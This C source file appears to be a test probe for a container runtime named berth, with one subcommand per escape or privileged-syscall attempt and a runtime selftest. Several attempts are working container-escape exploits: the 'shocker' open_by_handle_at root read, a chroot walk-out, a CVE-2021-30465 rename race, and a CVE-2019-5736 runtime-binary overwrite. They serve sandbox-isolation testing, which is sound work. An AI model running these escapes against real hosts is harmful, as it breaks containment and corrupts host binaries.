/*
 * probe: one container escape attempt per run, made directly with syscalls.
 *
 *   probe ATTEMPT [ARGS]
 *
 * (or probe ATTEMPT@LABEL [ARGS], to tell several runs of one attempt apart) prints
 * exactly one result line
 *
 *   ATTEMPT: ok
 *   ATTEMPT: denied: <strerror> (errno N)
 *
 * optionally followed by detail lines that start with "| ", and exits 0 when the
 * attempt succeeded, 1 when it was denied, 2 on a usage error. Notes on what happened
 * on the way go to stderr. Built static (gcc -static -O2) by testsupport::probe so it
 * runs in the busybox fixture with no libraries.
 *
 * Every attempt is written so that success is harmless to the host running the tests:
 * keys are unlinked again, the clock is set to the time it already has (plus an offset
 * only when asked), sysrq gets 'h', sysctls get the value they already hold. The one
 * destructive attempt, cve_2019_5736, writes into a binary only after it has found it
 * by a pattern the caller chose (the test points it at a disposable copy of berth).
 *
 * `runtime_selftest` is not an attempt: it exercises what real programs need from the
 * kernel (threads, futexes, signals, timers, epoll, eventfd, fork) for the
 * compatibility battery.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/bpf.h>
#include <linux/futex.h>
#include <linux/io_uring.h>
#include <linux/keyctl.h>
#include <linux/landlock.h>
#include <linux/perf_event.h>
#include <linux/vm_sockets.h>
#include <netinet/in.h>
#include <arpa/inet.h>
#include <pthread.h>
#include <sched.h>
#include <signal.h>
#include <stdarg.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/epoll.h>
#include <sys/eventfd.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/signalfd.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/timerfd.h>
#include <sys/types.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static const char *attempt = "probe";

static int ok(void)
{
	printf("%s: ok\n", attempt);
	fflush(stdout);
	return 0;
}

static int denied(int e)
{
	printf("%s: denied: %s (errno %d)\n", attempt, strerror(e), e);
	fflush(stdout);
	return 1;
}

/* The result of one syscall that is the whole attempt. */
static int check(long r)
{
	return r < 0 ? denied(errno) : ok();
}

static void note(const char *fmt, ...)
{
	va_list ap;
	fprintf(stderr, "probe %s: ", attempt);
	va_start(ap, fmt);
	vfprintf(stderr, fmt, ap);
	va_end(ap);
	fputc('\n', stderr);
}

static int usage(const char *how)
{
	fprintf(stderr, "usage: probe %s %s\n", attempt, how);
	return 2;
}

static double now_secs(void)
{
	struct timespec ts;
	clock_gettime(CLOCK_MONOTONIC, &ts);
	return ts.tv_sec + ts.tv_nsec / 1e9;
}

static void mkdirs(const char *path)
{
	char buf[4096];
	snprintf(buf, sizeof buf, "%s", path);
	for (char *p = buf + 1; *p; p++) {
		if (*p == '/') {
			*p = 0;
			mkdir(buf, 0755);
			*p = '/';
		}
	}
	mkdir(buf, 0755);
}

/* ---------------------------------------------------------------- mounts */

/* mount [FSTYPE [TARGET [OPTIONS]]]: a new filesystem (default tmpfs on /mnt). */
static int do_mount(int argc, char **argv)
{
	const char *fstype = argc > 2 ? argv[2] : "tmpfs";
	const char *target = argc > 3 ? argv[3] : "/mnt";
	const char *opts = argc > 4 ? argv[4] : NULL;
	mkdirs(target);
	return check(mount(fstype, target, fstype, 0, opts));
}

/* umount [PATH]: lazily detach a mount the runtime made (default /etc/hosts). */
static int do_umount(int argc, char **argv)
{
	return check(umount2(argc > 2 ? argv[2] : "/etc/hosts", MNT_DETACH));
}

/* ------------------------------------------------------------ namespaces */

static int do_userns(void)
{
	return check(unshare(CLONE_NEWUSER));
}

static int reap(long pid)
{
	if (pid < 0)
		return denied(errno);
	if (pid == 0)
		syscall(SYS_exit_group, 0);
	int st;
	waitpid((pid_t)pid, &st, __WALL);
	return ok();
}

/* The same through clone(2) itself, as a runtime-in-a-container would. */
static int do_userns_clone(void)
{
	return reap(syscall(SYS_clone, CLONE_NEWUSER | SIGCHLD, 0, 0, 0, 0));
}

struct clone_args_v0 {
	uint64_t flags, pidfd, child_tid, parent_tid, exit_signal, stack, stack_size, tls;
};

/* clone3 [userns]: clone3 is invisible to a seccomp filter's argument checks. */
static int do_clone3(int argc, char **argv)
{
	struct clone_args_v0 a;
	memset(&a, 0, sizeof a);
	a.exit_signal = SIGCHLD;
	if (argc > 2 && strcmp(argv[2], "userns") == 0)
		a.flags = CLONE_NEWUSER;
	return reap(syscall(SYS_clone3, &a, sizeof a));
}

static int ns_flag(const char *name)
{
	static const struct {
		const char *name;
		int flag;
	} t[] = {
		{"mnt", CLONE_NEWNS},	   {"uts", CLONE_NEWUTS}, {"ipc", CLONE_NEWIPC},
		{"net", CLONE_NEWNET},	   {"pid", CLONE_NEWPID}, {"cgroup", CLONE_NEWCGROUP},
		{"user", CLONE_NEWUSER},   {"time", 0x00000080},
	};
	for (size_t i = 0; i < sizeof t / sizeof t[0]; i++)
		if (strcmp(t[i].name, name) == 0)
			return t[i].flag;
	return -1;
}

/* unshare NS: any one namespace type by name (mnt uts ipc net pid cgroup user time). */
static int do_unshare(int argc, char **argv)
{
	int f = argc > 2 ? ns_flag(argv[2]) : -1;
	if (f < 0)
		return usage("mnt|uts|ipc|net|pid|cgroup|user|time");
	return check(unshare(f));
}

/* setns PATH: open a namespace file and join it. */
static int do_setns(int argc, char **argv)
{
	if (argc < 3)
		return usage("PATH");
	int fd = open(argv[2], O_RDONLY | O_CLOEXEC);
	if (fd < 0) {
		note("open %s failed", argv[2]);
		return denied(errno);
	}
	return check(setns(fd, 0));
}

/* ------------------------------------------------------- kernel facilities */

static int do_keyctl(void)
{
	long id = syscall(SYS_add_key, "user", "berth-probe", "x", 1, KEY_SPEC_SESSION_KEYRING);
	if (id < 0)
		return denied(errno);
	/* Keyrings are not namespaced: leave nothing behind in the caller's session. */
	syscall(SYS_keyctl, KEYCTL_UNLINK, id, KEY_SPEC_SESSION_KEYRING);
	syscall(SYS_keyctl, KEYCTL_INVALIDATE, id);
	return ok();
}

/* bpf [map]: load the smallest socket filter (r0 = 0; exit), or create an array map. */
static int do_bpf(int argc, char **argv)
{
	union bpf_attr a;
	memset(&a, 0, sizeof a);
	if (argc > 2 && strcmp(argv[2], "map") == 0) {
		a.map_type = BPF_MAP_TYPE_ARRAY;
		a.key_size = 4;
		a.value_size = 4;
		a.max_entries = 1;
		return check(syscall(SYS_bpf, BPF_MAP_CREATE, &a, sizeof a));
	}
	struct bpf_insn insns[2];
	memset(insns, 0, sizeof insns);
	insns[0].code = BPF_ALU64 | BPF_MOV | BPF_K; /* r0 = 0 */
	insns[1].code = BPF_JMP | BPF_EXIT;
	a.prog_type = BPF_PROG_TYPE_SOCKET_FILTER;
	a.insns = (uint64_t)(uintptr_t)insns;
	a.insn_cnt = 2;
	a.license = (uint64_t)(uintptr_t) "GPL";
	return check(syscall(SYS_bpf, BPF_PROG_LOAD, &a, sizeof a));
}

/* perf: a software counter on ourselves, user space only, so perf_event_paranoid <= 2
 * allows it and only a seccomp filter can refuse it. */
static int do_perf(void)
{
	struct perf_event_attr pe;
	memset(&pe, 0, sizeof pe);
	pe.type = PERF_TYPE_SOFTWARE;
	pe.size = sizeof pe;
	pe.config = PERF_COUNT_SW_TASK_CLOCK;
	pe.disabled = 1;
	pe.exclude_kernel = 1;
	pe.exclude_hv = 1;
	return check(syscall(SYS_perf_event_open, &pe, 0, -1, -1, 0));
}

/* kexec: zero segments (which would only unload a loaded kernel). */
static int do_kexec(void)
{
	return check(syscall(SYS_kexec_load, 0UL, 0UL, NULL, 0UL));
}

/* init_module: an empty image; EPERM is a refusal, ENOEXEC means the kernel looked at it. */
static int do_init_module(void)
{
	static char image[1];
	return check(syscall(SYS_init_module, image, 0UL, ""));
}

static int do_finit_module(void)
{
	int fd = open("/dev/null", O_RDONLY | O_CLOEXEC);
	if (fd < 0)
		return denied(errno);
	return check(syscall(SYS_finit_module, fd, "", 0));
}

static int do_io_uring(void)
{
	struct io_uring_params p;
	memset(&p, 0, sizeof p);
	return check(syscall(SYS_io_uring_setup, 1, &p));
}

/* ------------------------------------------------------------- processes */

/* ptrace PID: seize (attach without stopping) any process by number. */
static int do_ptrace(int argc, char **argv)
{
	if (argc < 3)
		return usage("PID");
	return check(ptrace(PTRACE_SEIZE, (pid_t)atoi(argv[2]), 0, 0));
}

/* kill PID [SIG]: default signal 0, which only asks whether we could. */
static int do_kill(int argc, char **argv)
{
	if (argc < 3)
		return usage("PID [SIG]");
	return check(kill((pid_t)atoi(argv[2]), argc > 3 ? atoi(argv[3]) : 0));
}

/* --------------------------------------------------------------- files */

/* write PATH DATA: open for writing (no truncation, no creation) and write DATA. */
static int do_write(int argc, char **argv)
{
	if (argc < 4)
		return usage("PATH DATA");
	int fd = open(argv[2], O_WRONLY | O_CLOEXEC);
	if (fd < 0)
		return denied(errno);
	if (write(fd, argv[3], strlen(argv[3])) < 0)
		return denied(errno);
	return close(fd) < 0 ? denied(errno) : ok();
}

static void print_data(const char *buf, ssize_t n)
{
	if (n <= 0)
		return;
	fputs("| ", stdout);
	for (ssize_t i = 0; i < n; i++) {
		putchar(buf[i]);
		if (buf[i] == '\n' && i + 1 < n)
			fputs("| ", stdout);
	}
	if (n > 0 && buf[n - 1] != '\n')
		putchar('\n');
}

/* read PATH: open and read up to 4 KiB; the data follows as "| " lines. */
static int do_read(int argc, char **argv)
{
	if (argc < 3)
		return usage("PATH");
	int fd = open(argv[2], O_RDONLY | O_CLOEXEC);
	if (fd < 0)
		return denied(errno);
	char buf[4096];
	ssize_t n = read(fd, buf, sizeof buf);
	if (n < 0)
		return denied(errno);
	ok();
	print_data(buf, n);
	return 0;
}

/* ls PATH: the names in a directory, as "| " lines. */
static int do_ls(int argc, char **argv)
{
	if (argc < 3)
		return usage("PATH");
	DIR *d = opendir(argv[2]);
	if (!d)
		return denied(errno);
	ok();
	struct dirent *e;
	while ((e = readdir(d)))
		if (strcmp(e->d_name, ".") && strcmp(e->d_name, ".."))
			printf("| %s\n", e->d_name);
	return 0;
}

/* open_by_handle [FILE]: the "shocker" exploit. FILE (default /etc/hosts, which the
 * runtime bind-mounts from the host) gives a descriptor on a host filesystem; a crafted
 * ext4 handle (type 1: 32-bit inode + generation) for inode 2 opens that filesystem's
 * root directory, whatever the container's root is. */
static int do_open_by_handle(int argc, char **argv)
{
	const char *file = argc > 2 ? argv[2] : "/etc/hosts";
	struct {
		struct file_handle fh;
		unsigned char bytes[128];
	} own;
	int mount_id;
	own.fh.handle_bytes = sizeof own.bytes;
	if (name_to_handle_at(AT_FDCWD, file, &own.fh, &mount_id, 0) < 0)
		note("name_to_handle_at(%s): %s", file, strerror(errno));
	else
		note("%s has a handle of type %d, %u bytes", file, own.fh.handle_type,
		     own.fh.handle_bytes);
	int mfd = open(file, O_RDONLY | O_CLOEXEC);
	if (mfd < 0) {
		note("open %s failed", file);
		return denied(errno);
	}
	struct {
		struct file_handle fh;
		uint32_t ino, gen;
	} h;
	h.fh.handle_bytes = 8;
	h.fh.handle_type = 1;
	h.ino = 2;
	h.gen = 0;
	int fd = open_by_handle_at(mfd, &h.fh, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	if (fd < 0)
		return denied(errno);
	ok();
	DIR *d = fdopendir(fd);
	struct dirent *e;
	while (d && (e = readdir(d)))
		if (strcmp(e->d_name, ".") && strcmp(e->d_name, ".."))
			printf("| %s\n", e->d_name);
	return 0;
}

/* chroot_escape MARKER: the classic chroot-in-a-chroot walk up with "..", then look
 * for MARKER (a path that exists only on the host). ok = the marker was reached. */
static int do_chroot_escape(int argc, char **argv)
{
	if (argc < 3)
		return usage("MARKER");
	const char *dir = "/tmp/.probe-chroot";
	mkdir(dir, 0700);
	if (chdir("/") < 0 || chroot(dir) < 0) {
		note("chroot %s failed", dir);
		return denied(errno);
	}
	for (int i = 0; i < 64; i++)
		if (chdir("..") < 0)
			return denied(errno);
	if (chroot(".") < 0) {
		note("chroot . failed");
		return denied(errno);
	}
	if (access(argv[2], F_OK) < 0) {
		note("walked up to a root without %s", argv[2]);
		return denied(errno);
	}
	return ok();
}

static int do_rename(int argc, char **argv)
{
	if (argc < 4)
		return usage("FROM TO");
	return check(rename(argv[2], argv[3]));
}

static int do_link(int argc, char **argv)
{
	if (argc < 4)
		return usage("FROM TO");
	return check(link(argv[2], argv[3]));
}

static int do_symlink(int argc, char **argv)
{
	if (argc < 4)
		return usage("TARGET LINK");
	return check(symlink(argv[2], argv[3]));
}

/* swap A B SECONDS: exchange two names atomically, over and over (CVE-2021-30465's
 * race). ok if at least one exchange happened. */
static int do_swap(int argc, char **argv)
{
	if (argc < 5)
		return usage("A B SECONDS");
	double end = now_secs() + atof(argv[4]);
	long swaps = 0;
	int err = 0;
	while (now_secs() < end) {
		for (int i = 0; i < 256; i++) {
			if (syscall(SYS_renameat2, AT_FDCWD, argv[2], AT_FDCWD, argv[3],
				    RENAME_EXCHANGE) < 0)
				err = errno;
			else
				swaps++;
		}
	}
	note("%ld exchanges", swaps);
	return swaps ? ok() : denied(err);
}

/* opath_write PATH DATA: an O_PATH descriptor (which needs no access right) reopened for
 * writing through its /proc/self/fd magic link. */
static int do_opath_write(int argc, char **argv)
{
	if (argc < 4)
		return usage("PATH DATA");
	int p = open(argv[2], O_PATH | O_CLOEXEC);
	if (p < 0) {
		note("O_PATH open failed");
		return denied(errno);
	}
	char link[64];
	snprintf(link, sizeof link, "/proc/self/fd/%d", p);
	int fd = open(link, O_WRONLY | O_CLOEXEC);
	if (fd < 0)
		return denied(errno);
	if (write(fd, argv[3], strlen(argv[3])) < 0)
		return denied(errno);
	return ok();
}

static int do_truncate(int argc, char **argv)
{
	if (argc < 3)
		return usage("PATH");
	return check(truncate(argv[2], 0));
}

/* exec PATH: execute PATH as "probe ok_as ATTEMPT" (so PATH should be a copy of the
 * probe): the new program prints "ATTEMPT: ok". */
static int do_exec(int argc, char **argv)
{
	if (argc < 3)
		return usage("PATH");
	char *args[] = {argv[2], "ok_as", (char *)attempt, NULL};
	execv(argv[2], args);
	return denied(errno);
}

/* exec_memfd: copy our own executable into a memfd and execute that (a file-less
 * payload, as a dropped binary would run). */
static int do_exec_memfd(void)
{
	int in = open("/proc/self/exe", O_RDONLY | O_CLOEXEC);
	if (in < 0) {
		note("open /proc/self/exe failed");
		return denied(errno);
	}
	int mfd = (int)syscall(SYS_memfd_create, "probe", 0U);
	if (mfd < 0) {
		note("memfd_create failed");
		return denied(errno);
	}
	char buf[65536];
	ssize_t n;
	while ((n = read(in, buf, sizeof buf)) > 0)
		if (write(mfd, buf, (size_t)n) != n)
			return denied(errno);
	char *args[] = {"probe", "ok_as", (char *)attempt, NULL};
	char *envp[] = {NULL};
	syscall(SYS_execveat, mfd, "", args, envp, AT_EMPTY_PATH);
	return denied(errno);
}

static int do_ok_as(int argc, char **argv)
{
	if (argc > 2)
		attempt = argv[2];
	return ok();
}

/* --------------------------------------------------------------- devices */

static int do_mknod(int argc, char **argv, mode_t type, int maj, int min)
{
	if (argc < 3)
		return usage("PATH [MAJOR MINOR]");
	if (argc > 4) {
		maj = atoi(argv[3]);
		min = atoi(argv[4]);
	}
	return check(mknod(argv[2], type | 0600, makedev(maj, min)));
}

/* -------------------------------------------------------------- network */

static int do_socket(int domain, int type, int proto)
{
	int fd = socket(domain, type, proto);
	if (fd < 0)
		return denied(errno);
	close(fd);
	return ok();
}

static int tcp_addr(int argc, char **argv, struct sockaddr_in *sa)
{
	if (argc < 3)
		return -1;
	memset(sa, 0, sizeof *sa);
	sa->sin_family = AF_INET;
	sa->sin_port = htons((uint16_t)atoi(argv[2]));
	sa->sin_addr.s_addr = htonl(INADDR_LOOPBACK);
	return 0;
}

/* bind_tcp PORT / connect_tcp PORT, on 127.0.0.1. */
static int do_bind_tcp(int argc, char **argv)
{
	struct sockaddr_in sa;
	if (tcp_addr(argc, argv, &sa) < 0)
		return usage("PORT");
	int fd = socket(AF_INET, SOCK_STREAM, 0);
	if (fd < 0)
		return denied(errno);
	return check(bind(fd, (struct sockaddr *)&sa, sizeof sa));
}

static int do_connect_tcp(int argc, char **argv)
{
	struct sockaddr_in sa;
	if (tcp_addr(argc, argv, &sa) < 0)
		return usage("PORT");
	int fd = socket(AF_INET, SOCK_STREAM, 0);
	if (fd < 0)
		return denied(errno);
	return check(connect(fd, (struct sockaddr *)&sa, sizeof sa));
}

/* A UDP echo server on PORT (all addresses), for published-port tests: each datagram
 * is sent back prefixed with "echo:". Runs until killed. */
static int do_udp_echo(int argc, char **argv)
{
	if (argc < 3)
		return usage("PORT");
	struct sockaddr_in sa = { .sin_family = AF_INET, .sin_port = htons(atoi(argv[2])) };
	int fd = socket(AF_INET, SOCK_DGRAM, 0);
	if (fd < 0 || bind(fd, (struct sockaddr *)&sa, sizeof sa) < 0)
		return denied(errno);
	char buf[2048];
	for (;;) {
		struct sockaddr_in from;
		socklen_t len = sizeof from;
		ssize_t n = recvfrom(fd, buf + 5, sizeof buf - 5, 0, (struct sockaddr *)&from, &len);
		if (n < 0)
			continue;
		memcpy(buf, "echo:", 5);
		sendto(fd, buf, n + 5, 0, (struct sockaddr *)&from, len);
	}
}

/* ----------------------------------------------------------------- host */

static int do_sethostname(int argc, char **argv)
{
	if (argc < 3)
		return usage("NAME");
	return check(sethostname(argv[2], strlen(argv[2])));
}

/* settime [OFFSET]: set CLOCK_REALTIME to what it reads now, plus OFFSET seconds. */
static int do_settime(int argc, char **argv)
{
	struct timespec ts;
	clock_gettime(CLOCK_REALTIME, &ts);
	ts.tv_sec += argc > 2 ? atol(argv[2]) : 0;
	return check(clock_settime(CLOCK_REALTIME, &ts));
}

/* landlock_abi: the Landlock ABI version the kernel offers (informational). */
static int do_landlock_abi(void)
{
	long v = syscall(SYS_landlock_create_ruleset, NULL, 0, LANDLOCK_CREATE_RULESET_VERSION);
	if (v < 0)
		return denied(errno);
	ok();
	printf("| %ld\n", v);
	return 0;
}

/* ------------------------------------------------------- CVE-2019-5736 */

/* cve_2019_5736 PATTERN SECONDS: watch /proc for a process whose executable's path
 * contains PATTERN (a runtime binary re-executed inside the container), keep an O_PATH
 * descriptor of it, and reopen that for writing as soon as the text is no longer busy;
 * on success write a marker over the first bytes. */
static int do_cve_2019_5736(int argc, char **argv)
{
	if (argc < 4)
		return usage("PATTERN SECONDS");
	const char *pattern = argv[2];
	double end = now_secs() + atof(argv[3]);
	int held = -1, err = ESRCH;
	pid_t self = getpid();
	while (now_secs() < end) {
		if (held < 0) {
			DIR *d = opendir("/proc");
			struct dirent *e;
			while (d && held < 0 && (e = readdir(d))) {
				pid_t pid = (pid_t)atoi(e->d_name);
				if (pid <= 0 || pid == self)
					continue;
				char path[64], target[4096];
				snprintf(path, sizeof path, "/proc/%d/exe", pid);
				ssize_t n = readlink(path, target, sizeof target - 1);
				if (n < 0) {
					if (errno == EACCES || errno == EPERM)
						err = errno;
					continue;
				}
				target[n] = 0;
				if (!strstr(target, pattern))
					continue;
				held = open(path, O_PATH | O_CLOEXEC);
				if (held < 0)
					err = errno;
				else
					note("pid %d runs %s: holding it", pid, target);
			}
			if (d)
				closedir(d);
			continue;
		}
		char link[64];
		snprintf(link, sizeof link, "/proc/self/fd/%d", held);
		int w = open(link, O_WRONLY | O_CLOEXEC);
		if (w >= 0) {
			static const char mark[] = "PWNED-BY-PROBE";
			if (pwrite(w, mark, sizeof mark - 1, 0) < 0)
				return denied(errno);
			return ok();
		}
		if (errno != ETXTBSY)
			return denied(errno);
		err = ETXTBSY;
	}
	return denied(err);
}

/* open_exe_wr PID: open /proc/PID/exe for writing right away. */
static int do_open_exe_wr(int argc, char **argv)
{
	if (argc < 3)
		return usage("PID|self");
	char path[64];
	snprintf(path, sizeof path, "/proc/%s/exe", argv[2]);
	return check(open(path, O_WRONLY | O_CLOEXEC));
}

/* ------------------------------------------------- runtime_selftest */

static int failures;
static char report[4096];

/* Results are collected and printed after the result line, as details. */
static void expect(int cond, const char *what)
{
	size_t used = strlen(report);
	snprintf(report + used, sizeof report - used, "| %s %s\n", what, cond ? "ok" : "FAILED");
	if (!cond) {
		failures++;
		fprintf(stderr, "selftest %s failed: %s\n", what, strerror(errno));
	}
}

static pthread_mutex_t mu = PTHREAD_MUTEX_INITIALIZER;
static pthread_cond_t cv = PTHREAD_COND_INITIALIZER;
static long counter;
static volatile sig_atomic_t timer_hits;
static uint32_t futex_word;

static void *worker(void *arg)
{
	(void)arg;
	for (int i = 0; i < 10000; i++) {
		pthread_mutex_lock(&mu);
		counter++;
		if (counter == 40000)
			pthread_cond_broadcast(&cv);
		pthread_mutex_unlock(&mu);
	}
	return NULL;
}

static void on_timer(int sig)
{
	(void)sig;
	timer_hits++;
}

static void *futex_waker(void *arg)
{
	(void)arg;
	usleep(20000);
	__atomic_store_n(&futex_word, 1, __ATOMIC_SEQ_CST);
	syscall(SYS_futex, &futex_word, FUTEX_WAKE_PRIVATE, 1, NULL, NULL, 0);
	return NULL;
}

static int do_runtime_selftest(void)
{
	/* threads, mutexes and condition variables (futexes underneath) */
	pthread_t t[4];
	int started = 1;
	for (int i = 0; i < 4; i++)
		started &= pthread_create(&t[i], NULL, worker, NULL) == 0;
	pthread_mutex_lock(&mu);
	while (started && counter < 40000)
		pthread_cond_wait(&cv, &mu);
	pthread_mutex_unlock(&mu);
	for (int i = 0; started && i < 4; i++)
		pthread_join(t[i], NULL);
	expect(started && counter == 40000, "threads");

	/* a raw futex wait woken by another thread */
	pthread_t w;
	int fok = pthread_create(&w, NULL, futex_waker, NULL) == 0;
	struct timespec two = {2, 0};
	while (fok && __atomic_load_n(&futex_word, __ATOMIC_SEQ_CST) == 0)
		if (syscall(SYS_futex, &futex_word, FUTEX_WAIT_PRIVATE, 0, &two, NULL, 0) < 0 &&
		    errno != EAGAIN && errno != EINTR) {
			fok = 0;
			break;
		}
	if (fok)
		pthread_join(w, NULL);
	expect(fok && futex_word == 1, "futex");

	/* POSIX timer delivering a signal to a sigaction handler */
	struct sigaction sa;
	memset(&sa, 0, sizeof sa);
	sa.sa_handler = on_timer;
	sigaction(SIGRTMIN, &sa, NULL);
	struct sigevent sev;
	memset(&sev, 0, sizeof sev);
	sev.sigev_notify = SIGEV_SIGNAL;
	sev.sigev_signo = SIGRTMIN;
	timer_t tid;
	int tok = timer_create(CLOCK_MONOTONIC, &sev, &tid) == 0;
	struct itimerspec its = {{0, 5000000}, {0, 5000000}};
	tok = tok && timer_settime(tid, 0, &its, NULL) == 0;
	double end = now_secs() + 2;
	while (tok && timer_hits < 3 && now_secs() < end)
		pause();
	if (tok)
		timer_delete(tid);
	expect(tok && timer_hits >= 3, "timer_create+sigaction");

	/* epoll over a timerfd, an eventfd and a signalfd */
	int ep = epoll_create1(EPOLL_CLOEXEC);
	int tfd = timerfd_create(CLOCK_MONOTONIC, TFD_CLOEXEC);
	int efd = eventfd(0, EFD_CLOEXEC);
	sigset_t mask;
	sigemptyset(&mask);
	sigaddset(&mask, SIGUSR1);
	sigprocmask(SIG_BLOCK, &mask, NULL);
	int sfd = signalfd(-1, &mask, SFD_CLOEXEC);
	expect(ep >= 0 && tfd >= 0 && efd >= 0 && sfd >= 0, "epoll/timerfd/eventfd/signalfd created");
	struct epoll_event ev = {.events = EPOLLIN};
	int fds[3] = {tfd, efd, sfd};
	for (int i = 0; i < 3; i++) {
		ev.data.fd = fds[i];
		epoll_ctl(ep, EPOLL_CTL_ADD, fds[i], &ev);
	}
	struct itimerspec once = {{0, 0}, {0, 10000000}};
	timerfd_settime(tfd, 0, &once, NULL);
	uint64_t one = 1;
	if (write(efd, &one, sizeof one) < 0)
		failures++;
	kill(getpid(), SIGUSR1);
	int seen_t = 0, seen_e = 0, seen_s = 0;
	end = now_secs() + 2;
	while (!(seen_t && seen_e && seen_s) && now_secs() < end) {
		struct epoll_event out[4];
		int n = epoll_wait(ep, out, 4, 500);
		for (int i = 0; i < n; i++) {
			uint64_t v;
			struct signalfd_siginfo si;
			if (out[i].data.fd == tfd && read(tfd, &v, sizeof v) == sizeof v)
				seen_t = 1;
			if (out[i].data.fd == efd && read(efd, &v, sizeof v) == sizeof v)
				seen_e = 1;
			if (out[i].data.fd == sfd && read(sfd, &si, sizeof si) == sizeof si &&
			    si.ssi_signo == SIGUSR1)
				seen_s = 1;
		}
	}
	expect(seen_t, "epoll_wait+timerfd");
	expect(seen_e, "epoll_wait+eventfd");
	expect(seen_s, "epoll_wait+signalfd");

	/* fork (clone underneath), a pipe and waitpid with an exit status */
	int p[2];
	int pok = pipe2(p, O_CLOEXEC) == 0;
	pid_t child = fork();
	if (child == 0) {
		if (write(p[1], "x", 1) < 0)
			_exit(1);
		_exit(7);
	}
	char c = 0;
	int st = 0;
	pok = pok && child > 0 && read(p[0], &c, 1) == 1 && waitpid(child, &st, 0) == child;
	expect(pok && c == 'x' && WIFEXITED(st) && WEXITSTATUS(st) == 7, "fork+pipe+waitpid");

	/* clock_nanosleep and CPU affinity */
	struct timespec ms = {0, 1000000};
	expect(clock_nanosleep(CLOCK_MONOTONIC, 0, &ms, NULL) == 0, "clock_nanosleep");
	cpu_set_t cpus;
	expect(sched_getaffinity(0, sizeof cpus, &cpus) == 0 && CPU_COUNT(&cpus) > 0,
	       "sched_getaffinity");
	int r = failures ? denied(EIO) : ok();
	fputs(report, stdout);
	return r;
}

/* ------------------------------------------------------------------ main */

int main(int argc, char **argv)
{
	if (argc < 2) {
		fprintf(stderr, "usage: probe ATTEMPT [ARGS]\n");
		return 2;
	}
	attempt = argv[1];
	/* The result line must come first even when details follow. */
	setvbuf(stdout, NULL, _IOLBF, 0);
	/* ATTEMPT@LABEL: the label only names the result line. */
	char a[128];
	snprintf(a, sizeof a, "%s", attempt);
	char *at = strchr(a, '@');
	if (at)
		*at = 0;
	if (!strcmp(a, "mount"))
		return do_mount(argc, argv);
	if (!strcmp(a, "umount"))
		return do_umount(argc, argv);
	if (!strcmp(a, "userns"))
		return do_userns();
	if (!strcmp(a, "userns_clone"))
		return do_userns_clone();
	if (!strcmp(a, "clone3"))
		return do_clone3(argc, argv);
	if (!strcmp(a, "unshare"))
		return do_unshare(argc, argv);
	if (!strcmp(a, "setns"))
		return do_setns(argc, argv);
	if (!strcmp(a, "keyctl"))
		return do_keyctl();
	if (!strcmp(a, "bpf"))
		return do_bpf(argc, argv);
	if (!strcmp(a, "perf"))
		return do_perf();
	if (!strcmp(a, "kexec"))
		return do_kexec();
	if (!strcmp(a, "init_module"))
		return do_init_module();
	if (!strcmp(a, "finit_module"))
		return do_finit_module();
	if (!strcmp(a, "io_uring"))
		return do_io_uring();
	if (!strcmp(a, "ptrace"))
		return do_ptrace(argc, argv);
	if (!strcmp(a, "kill"))
		return do_kill(argc, argv);
	if (!strcmp(a, "write"))
		return do_write(argc, argv);
	if (!strcmp(a, "read"))
		return do_read(argc, argv);
	if (!strcmp(a, "ls"))
		return do_ls(argc, argv);
	if (!strcmp(a, "open_by_handle"))
		return do_open_by_handle(argc, argv);
	if (!strcmp(a, "chroot_escape"))
		return do_chroot_escape(argc, argv);
	if (!strcmp(a, "rename"))
		return do_rename(argc, argv);
	if (!strcmp(a, "link"))
		return do_link(argc, argv);
	if (!strcmp(a, "symlink"))
		return do_symlink(argc, argv);
	if (!strcmp(a, "swap"))
		return do_swap(argc, argv);
	if (!strcmp(a, "opath_write"))
		return do_opath_write(argc, argv);
	if (!strcmp(a, "truncate"))
		return do_truncate(argc, argv);
	if (!strcmp(a, "exec"))
		return do_exec(argc, argv);
	if (!strcmp(a, "exec_memfd"))
		return do_exec_memfd();
	if (!strcmp(a, "ok_as"))
		return do_ok_as(argc, argv);
	if (!strcmp(a, "mknod_block"))
		return do_mknod(argc, argv, S_IFBLK, 8, 0);
	if (!strcmp(a, "mknod_char"))
		return do_mknod(argc, argv, S_IFCHR, 1, 3);
	if (!strcmp(a, "rawsock"))
		return do_socket(AF_INET, SOCK_RAW, IPPROTO_ICMP);
	if (!strcmp(a, "vsock"))
		return do_socket(AF_VSOCK, SOCK_STREAM, 0);
	if (!strcmp(a, "bind_tcp"))
		return do_bind_tcp(argc, argv);
	if (!strcmp(a, "connect_tcp"))
		return do_connect_tcp(argc, argv);
	if (!strcmp(a, "udp_echo"))
		return do_udp_echo(argc, argv);
	if (!strcmp(a, "sethostname"))
		return do_sethostname(argc, argv);
	if (!strcmp(a, "settime"))
		return do_settime(argc, argv);
	if (!strcmp(a, "landlock_abi"))
		return do_landlock_abi();
	if (!strcmp(a, "cve_2019_5736"))
		return do_cve_2019_5736(argc, argv);
	if (!strcmp(a, "open_exe_wr"))
		return do_open_exe_wr(argc, argv);
	if (!strcmp(a, "runtime_selftest"))
		return do_runtime_selftest();
	fprintf(stderr, "probe: unknown attempt %s\n", a);
	return 2;
}
